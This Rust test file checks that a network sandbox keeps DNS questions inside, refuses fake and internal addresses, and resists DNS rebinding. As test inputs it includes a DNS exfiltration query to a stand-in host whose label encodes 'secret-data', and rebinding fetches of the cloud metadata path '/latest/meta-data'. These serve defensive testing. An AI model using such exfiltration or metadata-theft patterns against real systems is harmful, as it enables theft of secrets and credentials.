//! Names: no question leaves for a name no rule allows, fake addresses lead
//! nowhere by themselves, and a name means one address for the whole run.

use std::net::Ipv4Addr;
use std::process::Command;

use outgate_harness::attack::check;
use outgate_harness::names::Names;
use outgate_harness::origin::Origin;
use outgate_harness::{Identity, Witness, lab_tests};

use crate::REFUSED;

/// Makes the laboratory's resolver configuration say 192.0.2.53.
fn own_resolver(lab: &outgate_harness::Lab) -> bool {
    let file = lab.directory.join("resolv.conf");
    std::fs::write(
        &file,
        "nameserver 192.0.2.53\noptions timeout:1 attempts:1\n",
    )
    .expect("a file");
    let real =
        std::fs::canonicalize("/etc/resolv.conf").unwrap_or_else(|_| "/etc/resolv.conf".into());
    let bound = Command::new("mount")
        .arg("--bind")
        .arg(&file)
        .arg(real)
        .status();
    let done = bound.is_ok_and(|status| status.success());
    if !done {
        outgate_harness::skip("resolv.conf cannot be replaced");
    }
    done
}

fn get(host: &str, path: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

lab_tests! {
    fn row_48_questions_are_answered_inside_and_go_nowhere(lab) {
        let witness = Witness::start_on(&lab.directory, 53);
        for server in ["8.8.8.8:53", "127.0.0.53:53", "192.0.2.53:53"] {
            let name = "c2VjcmV0LWRhdGE.exfil.example";
            leaks_bare_any(lab, &witness, &["ask", server, name, "1"]);
            for identity in Identity::all() {
                let outcome = lab.sandbox(identity).probe(&["ask", server, name, "1"]);
                witness.assert_untouched("a question");
                assert!(outcome.stdout.contains(&format!("answer tcp {name} type=1 code=0 count=1 first=198.1")), "{identity:?} {outcome}");
                assert!(outcome.stdout.contains(&format!("answer udp {name} type=1 code=0 count=1 first=198.1")), "{identity:?} {outcome}");
                assert!(outcome.stdout.contains("source udp same=1"), "{outcome}");
            }
        }
    }

    fn row_48_other_types_are_empty(lab) {
        let witness = Witness::start_on(&lab.directory, 53);
        for identity in Identity::all() {
            for kind in ["28", "65", "64", "16", "15", "2"] {
                let outcome = lab.sandbox(identity).probe(&["ask", "9.9.9.9:53", "denied.example", kind]);
                witness.assert_untouched("a question");
                assert!(outcome.stdout.contains(&format!("type={kind} code=0 count=0")), "{identity:?} {outcome}");
            }
        }
    }

    fn row_48_an_unassigned_fake_address_is_refused(lab) {
        let witness = Witness::start(&lab.directory);
        for identity in Identity::all() {
            for host in ["198.19.255.254", "198.18.0.0", "198.18.77.77", "[::ffff:198.18.77.77]"] {
                let to = witness.at(host);
                let sandbox = lab.sandbox(identity).allow(&format!("tcp://*:{}", witness.port()));
                let outcome = sandbox.probe(&["connect", &to]);
                witness.assert_untouched(host);
                check(&outcome, &[(&to, REFUSED)], &format!("{identity:?}"));
            }
        }
    }

    fn row_48_a_literal_address_needs_its_own_rule(lab) {
        let origin = Origin::start(8080);
        for identity in Identity::all() {
            let sandbox = lab.sandbox(identity).allow("http://site.example:8080").pin("site.example:8080=93.184.216.34:8080");
            let text = get("site.example:8080", "/x");
            let outcome = sandbox.probe(&["fetch", "93.184.216.34", "8080", &text]);
            assert_eq!(origin.connections(), 0, "{identity:?} {outcome}");
            assert!(outcome.stdout.contains("403"), "it is told why: {outcome}");
        }
    }

    fn row_48_no_question_leaves_for_a_denied_name(lab) {
        if !own_resolver(lab) {
            return;
        }
        let names = Names::start(vec![Ipv4Addr::new(93, 184, 216, 34)]);
        let origin = Origin::start(80);
        for identity in Identity::all() {
            let sandbox = || lab.sandbox(identity).allow("GET http://allowed.example/ok");
            let denied = sandbox().probe(&["fetch", "secret.denied.example", "80", &get("secret.denied.example", "/ok")]);
            assert!(denied.stdout.contains("403"), "{identity:?} {denied}");
            assert_eq!(names.asked(), Vec::<String>::new(), "{identity:?} {denied}");
            let told = sandbox().probe(&["fetch", "allowed.example", "80", &get("allowed.example", "/ok")]);
            assert!(told.stdout.contains("from-here"), "{identity:?} {told}");
            assert!(names.asked().iter().all(|name| name.eq_ignore_ascii_case("allowed.example")), "{:?}", names.asked());
            names.forget();
        }
        assert!(origin.arrivals().iter().all(|arrival| arrival.fields("host") == ["allowed.example"]));
    }

    fn row_48_and_sandlock_c5_a_name_that_moves_is_not_followed(lab) {
        if !own_resolver(lab) {
            return;
        }
        // First answer, then another for ever: a run stays with the first.
        let (first, then) = (Ipv4Addr::new(93, 184, 216, 34), Ipv4Addr::new(93, 184, 216, 99));
        let _names = Names::start(vec![first, then]);
        let origin = Origin::start(80);
        let probe = format!("{} fetch moves.example 80 '{}'", lab.tool("probe"), get("moves.example", "/ok"));
        let script = format!("{probe}; {probe}; {probe}");
        let outcome = lab.sandbox(Identity::Own).allow("http://moves.example").run(&["sh".into(), "-c".into(), script]);
        let to: Vec<_> = origin.arrivals().iter().map(|arrival| arrival.to.ip()).collect();
        assert_eq!(to.len(), 3, "{outcome}");
        assert!(to.iter().all(|ip| *ip == to[0]), "{to:?}");
    }

    fn row_48_a_name_that_points_inside_is_refused(lab) {
        if !own_resolver(lab) {
            return;
        }
        let _names = Names::start(vec![Ipv4Addr::LOCALHOST, Ipv4Addr::new(169, 254, 169, 254), Ipv4Addr::new(10, 0, 0, 1)]);
        let origin = Origin::start(80);
        for identity in Identity::all() {
            for name in ["rebind.example", "meta.example", "inner.example"] {
                let sandbox = lab.sandbox(identity).allow("http://*.example");
                let outcome = sandbox.probe(&["fetch", name, "80", &get(name, "/latest/meta-data")]);
                assert_eq!(origin.connections(), 0, "{identity:?} {outcome}");
                assert!(outcome.stdout.contains("403"), "{identity:?} {outcome}");
                assert!(!outcome.stdout.contains("169.254") && !outcome.stderr.contains("169.254"), "no address is told: {outcome}");
            }
        }
    }

    fn a_name_that_points_inside_is_refused_to_a_run_that_monitors(lab) {
        if !own_resolver(lab) {
            return;
        }
        let _names = Names::start(vec![Ipv4Addr::LOCALHOST, Ipv4Addr::new(169, 254, 169, 254), Ipv4Addr::new(10, 0, 0, 1)]);
        let origin = Origin::start(80);
        for identity in Identity::all() {
            for rule in ["http://*.example", "http://other.test"] {
                for name in ["rebind.example", "meta.example", "inner.example"] {
                    let sandbox = lab.sandbox(identity).allow(rule).flag("--monitor");
                    let outcome = sandbox.probe(&["fetch", name, "80", &get(name, "/latest/meta-data")]);
                    assert_eq!(origin.connections(), 0, "{identity:?} {rule} {outcome}");
                    assert!(outcome.stdout.contains("403"), "{identity:?} {rule} {outcome}");
                }
            }
        }
    }
}

/// Like `leaks_bare`, for bytes that are a question instead of a leak.
fn leaks_bare_any(lab: &outgate_harness::Lab, witness: &Witness, probe: &[&str]) {
    lab.bare(Identity::Own, probe);
    let seen = witness.sightings();
    let tcp = seen.iter().any(|sighting| sighting.via == "tcp");
    assert!(
        tcp && seen.iter().any(|sighting| sighting.via == "udp"),
        "bare it leaves: {seen:?}"
    );
    witness.forget();
}
